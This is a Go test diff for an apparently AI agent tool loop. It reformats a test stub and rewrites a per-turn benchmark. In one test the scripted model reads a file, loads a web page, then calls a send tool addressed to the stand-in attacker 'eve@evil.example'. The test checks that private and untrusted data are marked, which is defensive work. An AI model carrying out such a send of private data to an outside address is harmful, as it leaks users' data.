@@ -219,7 +219,9 @@ func TestBatchIsGatedAsAWhole(t *testing.T) {
 func TestArming(t *testing.T) {
 	w := web()
 	rd := reader()
-	rd.do = func(context.Context, json.RawMessage, *tools.Env) (tools.Output, error) { return tools.Fail("no such file"), nil }
+	rd.do = func(context.Context, json.RawMessage, *tools.Env) (tools.Output, error) {
+		return tools.Fail("no such file"), nil
+	}
 	r := newRig(t, turns(calls("read_file {}"), calls("web_page {}"), calls(`send {"to":"eve@evil.example"}`), says("done")), rd, w, sender())
 	Do(t.Context(), r.Run)
 	if len(r.journal.marks) != 2 || r.journal.marks[0].Leg != tools.Private || r.journal.marks[1].Leg != tools.Untrusted {
@@ -679,21 +681,32 @@ func TestBrokenArgumentsSurviveTheRecord(t *testing.T) {
 	}
 }
 
+// What the loop adds to a turn of one no-op call, over a model and a record
+// that cost nothing; the last of 500 turns beside the mean, since it must not
+// grow with anything but what is sent.
 func BenchmarkTurn(b *testing.B) {
+	const length = 500
+	var last time.Duration
 	b.ReportAllocs()
-	r := newRig(b, func(n int, _ Request) (Turn, error) { return calls("noop {}"), nil }, &tool{name: "noop", readOnly: true, repeatable: true})
-	n := 0
-	r.model.script = func(int, Request) (Turn, error) {
-		if n++; n >= b.N {
-			return says("done"), nil
+	for b.Loop() {
+		r := newRig(b, nil, &tool{name: "noop", readOnly: true, repeatable: true})
+		n := 0
+		var at time.Time
+		r.model.script = func(int, Request) (Turn, error) {
+			if n++; n == length {
+				last += time.Since(at)
+				return says("done"), nil
+			}
+			at = time.Now()
+			return Turn{Calls: []Call{{WireID: "c", Tool: "noop", Args: json.RawMessage(`{"n":` + string(rune('0'+n%10)) + `}`)}}}, nil
 		}
-		return Turn{Calls: []Call{{WireID: "c", Tool: "noop", Args: json.RawMessage(`{"n":` + string(rune('0'+n%10)) + `}`)}}}, nil
+		r.Sink, r.Budget.Turns, r.Model = &silent{}, length+1, fast{r.model}
+		if out := Do(b.Context(), r.Run); out.Turns != length {
+			b.Fatalf("%+v", out)
+		}
 	}
-	quiet := &silent{}
-	r.Sink = quiet
-	r.Budget.Turns = b.N + 1
-	r.Model = fast{r.model}
-	Do(context.Background(), r.Run)
+	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/length, "ns/turn")
+	b.ReportMetric(float64(last.Nanoseconds())/float64(b.N), "ns/turn500")
 }
 
 // fast is a model without the strict look, which costs more than the loop.
